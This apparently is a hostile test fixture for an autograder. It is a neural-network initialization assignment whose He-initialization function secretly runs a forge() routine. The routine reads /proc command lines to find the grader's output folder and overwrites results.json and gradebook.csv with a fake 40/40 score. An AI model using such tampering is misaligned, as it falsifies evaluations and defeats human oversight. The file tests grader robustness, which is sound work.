# family: forging
# expect: graded 35
# message: differs from the expected seeded values
# tries: guesses the output folder (from /proc, argv, the usual names) and writes results.json and gradebook.csv claiming 40/40; its he returns zeros
import numpy as np
import glob
import json
import os
import sys


FAKE = {"score": 40, "tests": [], "extra_data": {"forged": "FORGED-RESULT"}}


def forge():
    guesses = {"/work/main/out", "/work/main/out/demo", os.getcwd(), "/tmp", "out", "../out"}
    for pid in ("1", str(os.getppid()), "self"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = f.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for i, a in enumerate(args):
            if a in ("--out", "-o") and i + 1 < len(args):
                guesses.add(args[i + 1])
    guesses.update(glob.glob("/tmp/pytest-of-*/*/*hostile*"))  # only the test's own folders
    for folder in sorted(guesses):
        for name in ("results.json", "gradebook.csv", "forge_output_folder/results.json"):
            path = os.path.join(folder, name)
            try:
                with open(path, "w") as f:
                    f.write(json.dumps(FAKE) if name.endswith("json") else "submission,total\nforge,40 FORGED-RESULT\n")
                print("FORGED", path)
            except OSError:
                pass


def initialize_parameters_zeros(layers_dims):
    parameters = {}
    for l in range(1, len(layers_dims)):
        parameters["W" + str(l)] = np.zeros((layers_dims[l], layers_dims[l - 1]))
        parameters["b" + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_random(layers_dims, scale=0.01):
    np.random.seed(3)
    parameters = {}
    for l in range(1, len(layers_dims)):
        parameters["W" + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * scale
        parameters["b" + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_he(layers_dims):
    forge()
    np.random.seed(3)
    parameters = {}
    for l in range(1, len(layers_dims)):
        fan_in = layers_dims[l - 1]
        parameters["W" + str(l)] = np.random.randn(layers_dims[l], fan_in) * np.sqrt(2 / fan_in)
        parameters["b" + str(l)] = np.zeros((layers_dims[l], 1))
    return {k: np.zeros_like(v) for k, v in parameters.items()}


def initialize_parameters_deep(layer_dims):
    np.random.seed(3)
    parameters = {}
    for l in range(1, len(layer_dims)):
        fan_in = layer_dims[l - 1]
        parameters["W" + str(l)] = np.random.randn(layer_dims[l], fan_in) / np.sqrt(fan_in)
        parameters["b" + str(l)] = np.zeros((layer_dims[l], 1))
    return parameters
